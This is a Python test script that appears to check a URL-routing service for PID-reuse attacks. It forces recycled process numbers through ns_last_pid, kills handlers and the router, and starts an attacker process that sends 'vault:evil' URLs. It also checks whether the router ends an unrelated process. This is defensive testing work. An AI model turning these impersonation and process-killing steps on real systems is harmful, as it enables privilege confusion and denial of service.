#!/usr/bin/python3
"""Scenarios in which the number of a process comes again. Runs as the first process of a namespace of processes.

    pid_reuse.py SCENARIO PROGRAMS PREFIX ROOT

Prints `HARM` or `ok` with a few words.
"""

import os, signal, subprocess, sys
from attack import *
from bus import lane_path
from identity import VAULT


def next_pid(number):
    """Lets the next process of this namespace have a number."""
    with open("/proc/sys/kernel/ns_last_pid", "w") as file:
        file.write(str(number - 1))


def end(pid):
    """Ends a process, and waits until its number is free."""
    os.kill(pid, signal.SIGKILL)
    wait_until(lambda: reap() or not os.path.exists(f"/proc/{pid}"))


def connection(session):
    """A child keeps the connection of a process that ends. The victim's process then gets the number."""
    handler = session.swift(VICTIM, SCHEME)
    code = (f"import sys, os, time\nsys.path.insert(0, {HERE!r})\nfrom bus import *\nbus = Bus()\nprint(os.getpid(), flush=True)\n"
            "if os.fork(): os._exit(0)\n"
            "sys.stdin.readline()\n"
            "try: bus.open('vault:evil', wait=10); print('answered', flush=True)\n"
            "except (BusError, NoAnswer) as error: print(getattr(error, 'short', error), flush=True)\n")
    process = session.start(PYTHON, "-c", code, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    number = int(process.stdout.readline())
    process.wait()
    start_as(session, handler, number)
    process.stdin.write(b"\n")
    process.stdin.flush()
    return handler.pid == number, process.stdout.readline().decode().strip()


def lane(session):
    """As `connection`, over the router's own socket."""
    return on_lane(session, False)


def lane_waiting(session):
    """The router accepts the connection only when another program has the number, and the handler is told of that program."""
    return on_lane(session, True)


def on_lane(session, waits):
    handler = session.python(VICTIM, SCHEME) if waits else session.swift(VICTIM, SCHEME)
    router = session.router
    wait_until(lambda: lane_path(session.environment["XDG_RUNTIME_DIR"]))
    code = (f"import sys, os, time\nsys.path.insert(0, {HERE!r})\nfrom bus import *\n"
            f"bus = Lane(greets=False)\nprint(os.getpid(), flush=True)\n"
            "if os.fork(): os._exit(0)\n"
            "sys.stdin.readline()\n"
            "try:\n    if WAITS: bus.name = bus.hello()\n    bus.open(URL, wait=10); print('answered', flush=True)\n"
            "except (BusError, NoAnswer, OSError) as error: print(getattr(error, 'short', error), flush=True)\n")
    if waits:
        # A handler that a person starts by hand gets the number, as the router cannot start one now.
        os.kill(router, signal.SIGSTOP)
    else:
        code = code.replace("greets=False", "")
    code = code.replace("WAITS", str(waits)).replace("URL", repr(f"{SCHEME}:evil" if waits else "vault:evil"))
    process = session.start(PYTHON, "-c", code, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    number = int(process.stdout.readline())
    process.wait()
    if waits:
        # The router cannot start a handler now, so another program gets the number.
        for _ in range(20):
            next_pid(number)
            other = session.start("sleep", "60")
            if other.pid == number:
                break
            other.kill()
            other.wait()
        os.kill(router, signal.SIGCONT)
        has_number = other.pid == number
    else:
        start_as(session, handler, number)
        has_number = handler.pid == number
    process.stdin.write(b"\n")
    process.stdin.flush()
    outcome = process.stdout.readline().decode().strip()
    if waits:
        told = next((line for line in handler.events() if line.startswith("context ")), "no context")
        session.harm = "sleep" in told or '"pid"' in told
        outcome += f", the handler was told {'of the other program' if session.harm else 'of no program'}"
    return has_number, outcome


def start_as(session, handler, number):
    """Has the router start the handler with a number. Another process may take the number first, so this tries again."""
    caller = Bus()
    for attempt in range(20):
        # The start of a program may take numbers for threads of the router first.
        next_pid(number - attempt % 4)
        serial = caller.begin(ROUTER, "OpenURL", "sa{sv}", [f"{SCHEME}:x", {}])
        caller.answer(serial)
        if handler.pid == number:
            return
        os.kill(handler.pid, signal.SIGKILL)
        wait_until(lambda: not session.owner(VICTIM))
        # A handler that ends too often is temporarily not started.
        caller.call(LIFECYCLE, "Reset", "s", [VICTIM])


def become(session, number):
    """Starts the attacker's program with a number, and has it send a URL."""
    code = (f"import sys, os\nsys.path.insert(0, {HERE!r})\nfrom bus import *\n"
            "try: Bus().open('vault:evil', wait=10); print(os.getpid(), 'answered', flush=True)\n"
            "except (BusError, NoAnswer) as error: print(os.getpid(), getattr(error, 'short', error), flush=True)\n")
    for _ in range(20):
        next_pid(number)
        process = session.start(PYTHON, "-c", code, stdout=subprocess.PIPE)
        if process.pid == number:
            return True, process.communicate(timeout=15)[0].decode().split()[1]
        process.kill()
        process.wait()
    return False, "no such number"


def handler(session):
    handler = session.swift(VICTIM, SCHEME).start()
    number = handler.pid
    end(number)
    return become(session, number)


def record(session):
    handler = session.swift(VICTIM, SCHEME).start()
    router, number = session.router, handler.pid
    end(router)
    end(number)
    return become(session, number)


def innocent(session):
    """The number of a handler's record belongs to a program that never was a handler, and the router is asked to end it."""
    handler = session.swift(VICTIM, SCHEME).start()
    router, number = session.router, handler.pid
    end(router)
    end(number)
    for _ in range(20):
        next_pid(number)
        process = session.start("sleep", "60")
        if process.pid == number:
            break
        process.kill()
        process.wait()
    run = session.run("openurl", "terminate", VICTIM)
    session.run("openurl", "suspend", VICTIM)
    session.bus.call(LIFECYCLE, "RelieveMemory")
    session.harm = process.poll() is not None or state(process.pid) == "T"
    return process.pid == number, f"terminate: {run}, the program {'was ended' if session.harm else 'runs'}"


def main():
    scenario, programs, prefix, root = sys.argv[1:]
    os.mkdir(root)
    session = Target(programs, prefix, root)
    session.harm = None
    session.begin()
    session.vault = session.python(VAULT, "vault", OUAllowedSources=[VICTIM])
    has_number, facts = globals()[scenario](session)
    if not has_number:
        sys.exit("the process did not get the number")
    harm = bool(session.vault.urls()) if session.harm is None else session.harm
    print("HARM" if harm else "ok", facts)


main()
